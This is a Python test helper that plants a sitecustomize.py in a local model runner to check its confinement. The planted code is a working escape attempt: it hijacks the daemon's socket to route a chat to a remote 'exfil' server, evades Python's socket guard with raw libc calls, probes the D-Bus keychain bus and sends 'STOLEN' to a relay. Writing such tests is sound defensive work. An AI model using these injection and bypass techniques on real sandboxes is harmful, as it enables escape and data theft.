"""Code that runs inside a real model runner, as a malicious model file would, and tries to
get out. Tests put a ``sitecustomize.py`` from :func:`write_attack` on the daemon's
PYTHONPATH; the runner inherits it (the daemon keeps PYTHONPATH in a runner's minimal
environment) and, once it has confined itself and starts loading its engine (the import
of ``daemon.engine.llamacpp``: where a malformed model would take over), runs the attack.

Every attempt is recorded in a JSON file: ``{name: {"ok": bool, "detail" | "error"}}``.

- ``python_takeover``: the daemon's socket from Python, then set the network mode, allow
  127.0.0.1, set a remote server and send a chat out through ``route: "remote"``;
- ``libc_takeover``: the same socket through libc (invisible to Python's socket guard),
  asking for ``net.set_mode``;
- ``libc_dbus``: the D-Bus session bus (the keychain lives behind it) through libc;
- ``libc_tcp``: a loopback TCP listener (a relay) through libc;
- ``child_tcp`` / ``child_unix``: the same from a subprocess the runner starts.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

_SITE = """
import sys

PLAN = {plan}


def _attack():
    import ctypes, json, os, select, socket, struct, subprocess, time

    results = {{}}

    def attempt(name, action):
        try:
            results[name] = {{"ok": True, "detail": action()}}
        except BaseException as exc:
            results[name] = {{"ok": False, "error": type(exc).__name__ + ": " + str(exc)}}

    def python_takeover():
        sock = socket.socket(socket.AF_UNIX)
        sock.settimeout(30)
        sock.connect(PLAN["hearth_sock"])
        stream = sock.makefile("rwb")
        steps = [
            ("net.set_mode", {{"mode": "allow-listed"}}),
            ("net.allow", {{"host": "127.0.0.1"}}),
            ("net.remote", {{"url": PLAN["remote_url"], "model": "exfil"}}),
            ("chat", {{"route": "remote", "store": False,
                       "messages": [{{"role": "user", "content": "stolen"}}]}}),
        ]
        replies = []
        for rid, (method, params) in enumerate(steps, 1):
            request = {{"jsonrpc": "2.0", "id": rid, "method": method, "params": params}}
            stream.write(json.dumps(request).encode() + b"\\n")
            stream.flush()
            while True:
                line = stream.readline()
                if not line:
                    raise ConnectionError("the daemon closed the connection")
                reply = json.loads(line)
                if reply.get("id") == rid:
                    replies.append(reply)
                    break
        return replies

    libc = ctypes.CDLL(None, use_errno=True)

    def raw_connect(family, address):
        fd = libc.socket(family, socket.SOCK_STREAM, 0)
        if fd < 0:
            code = ctypes.get_errno()
            raise OSError(code, "socket(): " + os.strerror(code))
        if libc.connect(fd, address, len(address)) != 0:
            code = ctypes.get_errno()
            os.close(fd)
            raise OSError(code, "connect(): " + os.strerror(code))
        return fd

    def unix_address(path):
        return struct.pack("=H", socket.AF_UNIX) + path.encode().ljust(108, b"\\0")

    def read_all(fd, seconds=15):
        data, deadline = b"", time.monotonic() + seconds
        while time.monotonic() < deadline and b"\\n" not in data:
            ready, _, _ = select.select([fd], [], [], 0.5)
            if ready:
                chunk = os.read(fd, 65536)
                if not chunk:
                    break
                data += chunk
        return data

    def libc_takeover():
        fd = raw_connect(socket.AF_UNIX, unix_address(PLAN["hearth_sock"]))
        try:
            request = {{"jsonrpc": "2.0", "id": 1, "method": "net.set_mode",
                        "params": {{"mode": "allow-listed"}}}}
            os.write(fd, json.dumps(request).encode() + b"\\n")
            reply = read_all(fd)
        finally:
            os.close(fd)
        if not reply:
            raise ConnectionError("connected, but the daemon closed the connection")
        return reply.decode()

    def libc_dbus():
        os.close(raw_connect(socket.AF_UNIX, unix_address(PLAN["dbus_sock"])))
        return "connected"

    def libc_tcp():
        address = (struct.pack("=H", socket.AF_INET) + struct.pack("!H", PLAN["relay_port"])
                   + socket.inet_aton("127.0.0.1") + bytes(8))
        fd = raw_connect(socket.AF_INET, address)
        os.write(fd, b"STOLEN")
        os.close(fd)
        return "connected"

    def child(code):
        def run():
            done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                                  timeout=60)
            if done.returncode:
                raise OSError(done.stderr.strip().splitlines()[-1])
            return done.stdout.strip()
        return run

    attempt("python_takeover", python_takeover)
    attempt("libc_takeover", libc_takeover)
    attempt("libc_dbus", libc_dbus)
    attempt("libc_tcp", libc_tcp)
    attempt("child_tcp", child(
        "import socket; s = socket.create_connection(('127.0.0.1', %d), timeout=10); "
        "s.sendall(b'STOLEN'); print('connected')" % PLAN["relay_port"]))
    attempt("child_unix", child(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect(%r); print('connected')"
        % PLAN["hearth_sock"]))
    with open(PLAN["results"], "w") as out:
        json.dump(results, out)


def _hook(event, args):
    if event == "import" and args[0] == "daemon.engine.llamacpp" and not _hook.done:
        _hook.done = True
        try:
            _attack()
        except BaseException as exc:  # never break the runner itself
            with open(PLAN["results"], "w") as out:
                out.write('{{"attack_failed": %r}}' % repr(exc))


_hook.done = False
if "daemon.engine.runner" in getattr(sys, "orig_argv", ()):
    sys.addaudithook(_hook)
"""


def write_attack(folder: Path, plan: dict[str, Any]) -> Path:
    """Put the attack's sitecustomize.py in ``folder``; returns where results will be."""
    folder.mkdir(parents=True, exist_ok=True)
    results = folder / "results.json"
    (folder / "sitecustomize.py").write_text(
        _SITE.format(plan=json.dumps({**plan, "results": str(results)}))
    )
    return results


def dbus_socket_path(address: str) -> str:
    """The socket path of a ``unix:path=…`` D-Bus address."""
    for part in address.split(";")[0].removeprefix("unix:").split(","):
        if part.startswith("path="):
            return part.removeprefix("path=")
    raise ValueError(f"not a path D-Bus address: {address}")
